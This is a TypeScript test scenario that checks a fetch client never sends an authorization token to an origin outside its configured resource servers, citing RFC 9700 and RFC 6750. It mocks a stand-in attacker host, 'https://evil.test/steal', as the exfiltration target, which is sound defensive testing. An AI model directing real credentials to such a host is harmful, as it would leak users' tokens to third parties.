import type { Scenario } from "../types.ts";
import { carries, drain, setup } from "./_helpers.ts";

export default {
  id: "SEC-08",
  title: "No token to an origin outside the configured resource servers",
  severity: "SHOULD",
  source: "RFC 9700 §4.9.1; RFC 6750 §5.3",
  requires: { subject: ["fetch"] },
  async run(ctx) {
    const { server, instance } = await setup(ctx, { origins: { "https://evil.test": () => ({ body: "ok" }) } });
    const res = await ctx.attempt(() => instance.fetch("https://evil.test/steal"));
    if (res.ok) await drain(res.value);
    const evil = server.requests.filter((r) => r.origin === "https://evil.test");
    const leaked = evil.filter((r) => r.header("authorization") !== null || server.issued.some((t) => carries(r, t.value)));
    ctx.check(leaked.length === 0, `evil.test got a token ${leaked.length} time(s)`);
    ctx.evidence(res.ok ? `sent without token (status ${res.value.status})` : `refused (${res.info.kind})`);
  },
} satisfies Scenario;
